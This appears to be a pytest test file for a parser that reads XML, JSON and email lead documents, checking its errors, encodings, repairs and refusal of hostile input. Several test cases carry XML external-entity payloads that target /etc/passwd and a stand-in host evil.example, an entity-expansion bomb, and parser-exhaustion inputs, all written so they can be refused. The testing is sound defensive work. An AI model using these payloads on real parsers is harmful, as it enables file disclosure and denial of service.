from __future__ import annotations

import contextlib
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from chassis_metadata.errors import Invalid
from chassis_platform.documents.reading import Document, read_document
from chassis_platform.documents.xml_text import escape_ampersands, quote_attributes
from inbound.automotive import DOCUMENTS, document, mapping, units_of

LENIENT = ("declarations", "surrounding_text", "unquoted_attributes", "ampersands")
NAMES = sorted(path.name for path in DOCUMENTS.glob("[01]*"))


def root_of(read: Document) -> etree._Element:
    """The root of a document that is XML, or is read as XML."""
    assert isinstance(read.root, etree._Element)  # noqa: SLF001  lxml has no other name for it
    return read.root


def refused(content: bytes, lenient: tuple[str, ...] = LENIENT, content_type: str | None = None) -> Invalid:
    with pytest.raises(Invalid) as caught:
        read_document(content, content_type, lenient)
    return caught.value


@pytest.mark.parametrize(
    ("content", "line", "column"),
    [
        (b"<a>\n <b>\n</a>", 3, 5),
        (b"", 1, 1),
        (b"<a>\n\xff</a>", 2, 1),
        (b'{"a": [1,\n}', 2, 1),
        (b"\x1f\x8b\x08\x00", 1, 2),
        (b"PK\x03\x04zip", 1, 1),
        (b'<?xml version="1.0" encoding="zlib"?><a/>', 1, 1),
    ],
)
def test_what_is_not_readable_is_told_with_line_and_column(content: bytes, line: int, column: int) -> None:
    problem = refused(content).problems[0]

    assert (problem.line, problem.column) == (line, column)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE adf [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<?xml version="1.0"?>\n<!DOCTYPE adf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        '<!-- <!DOCTYPE adf> --><!DOCTYPE adf [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!doctype adf PUBLIC "-//X//Y" "http://evil.example/x.dtd" [<!ENTITY a "x">]>',
    ],
)
def test_declared_entities_are_refused_before_anything_is_parsed(doctype: str) -> None:
    error = refused(f"{doctype}<adf>&x;</adf>".encode())

    assert error.problems[0].code == "doctype_not_allowed"


def test_a_document_type_that_only_names_a_file_is_not_fetched() -> None:
    read = read_document(b'<!DOCTYPE adf SYSTEM "file:///etc/passwd"><adf>ok</adf>', None)

    assert etree.tostring(root_of(read)) == b"<adf>ok</adf>"


def test_an_entity_inside_an_attribute_is_not_expanded() -> None:
    refused(b'<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>')
    refused(b'<a b="&x;"/>', lenient=())


@pytest.mark.parametrize(
    "content",
    [
        b"<a>" * 100_000,
        b"<a b='c' " * 50_000,
        b"<!--" * 400_000,
        b"<a>" + b"<![CDATA[" * 200_000,
        b"<a>" + b"<?" * 700_000,
        b"<a " + b"b=" * 700_000,
        b"&" * 1_900_000,
        b"[" * 200_000,
        b'{"a":' * 200_000,
        b"<a>" + b"<b>" * 300 + b"</b>" * 300 + b"</a>",
        b"From: a\n" + b"Content-Type: multipart/mixed; boundary=a\n\n--a\n" * 20_000,
        b"From: a\n" + b"A: b\n" * 90_000,
        b"From: a\nContent-Type: multipart/mixed; boundary=a\n\n" + b"--a\n\n" * 40_000,
    ],
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_document_made_to_exhaust_the_parser_is_refused_soon(content: bytes) -> None:
    started = time.process_time()

    refused(content)

    assert time.process_time() - started < 5


def test_a_document_over_two_megabytes_is_refused() -> None:
    assert refused(b"<a>" + b" " * 2 * 1024 * 1024 + b"</a>").problems[0].code == "request_too_large"


@pytest.mark.parametrize("name", ["01_minimal_spec_uppercase_pi.xml", "10_malformed_unquoted_attribute.xml"])
def test_without_leniency_mistakes_in_the_xml_are_refused(name: str) -> None:
    refused(document(name), lenient=())


def test_repairs_are_named_and_change_nothing_but_the_mistake() -> None:
    read = read_document(document("10_malformed_unquoted_attribute.xml"), None, LENIENT)

    assert "unquoted_attributes" in read.repairs
    assert root_of(read).xpath("string(//id/@sequence)") == "1"
    assert read_document(document("02_full_document_custom_provider_tags.xml"), None, LENIENT).repairs == ()


def test_repairs_leave_cdata_comments_and_texts_alone() -> None:
    text = "<a b=1 c='d=2'>e=3 <![CDATA[<f g=4> & ]]><!-- <h i=5> & --></a>"

    assert quote_attributes(text) == text.replace("b=1", 'b="1"')
    assert escape_ampersands("<a b='x&y'>R&D &amp; &#65; &nbsp;<![CDATA[&]]></a>") == (
        "<a b='x&amp;y'>R&amp;D &amp; &#65; \u00a0<![CDATA[&]]></a>"
    )


@pytest.mark.parametrize(
    ("text", "encoding"),
    [("上海", "gb18030"), ("上海", "utf-16"), ("Müller", "iso-8859-1"), ("Müller", "windows-1252")],
)
def test_declared_encodings_are_read(text: str, encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?><a>{text}</a>'.encode(encoding)

    assert root_of(read_document(content, None)).text == text


def test_the_transports_charset_counts_where_the_document_says_none() -> None:
    read = read_document("<a>Müller</a>".encode("latin-1"), "text/xml; charset=ISO-8859-1")

    assert root_of(read).text == "Müller"


def test_json_is_read_by_the_same_paths() -> None:
    read = read_document(
        b'{"lead": {"name": "A", "cars": [{"make": "Kia"}, {"make": "BYD"}], "n": null, "x y": 1.5}}', None
    )

    assert root_of(read).xpath("/json/lead/cars/make/text()") == ["Kia", "BYD"]
    assert root_of(read).xpath("string(/json/lead/x_y)") == "1.5"


MAIL = (
    "From: a@example.com\r\nSubject: Lead\r\nMessage-ID: <1@example.com>\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee <below>.\r\n'
    "--b\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n{more}\r\n{body}\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    ("kind", "more"),
    [
        ("application/x-adf+xml", ""),
        ("application/octet-stream", 'Content-Disposition: attachment; filename="lead.xml"\r\n'),
    ],
)
def test_a_mails_xml_part_is_found(kind: str, more: str) -> None:
    mail = MAIL.format(kind=kind, more=more, body="PGFkZj5vazwvYWRmPg==")

    read = read_document(mail.encode(), "message/rfc822")

    assert (root_of(read).text, read.headers and read.headers["Message-ID"]) == ("ok", "<1@example.com>")


def test_a_mail_without_a_document_is_refused() -> None:
    assert refused(b"From: a@example.com\nSubject: Hi\n\nHello!\n").problems[0].code == "no_document"


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=400)
    | st.text(max_size=300).map(lambda text: text.encode("utf-8", "surrogatepass"))
    | st.tuples(st.integers(0, 12), st.integers(0, 900), st.binary(max_size=12)).map(
        lambda cut: document(NAMES[cut[0]])[: cut[1]] + cut[2] + document(NAMES[cut[0]])[cut[1] + len(cut[2]) :]
    ),
    st.sampled_from(
        [None, "application/xml", "application/json", "message/rfc822", "text/plain; charset=gbk", ";;=", "x"]
    ),
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_whatever_comes_is_read_or_refused(content: bytes, content_type: str | None) -> None:
    with contextlib.suppress(Invalid):  # nothing else may be raised
        units_of(content, mapping("adf"), content_type)
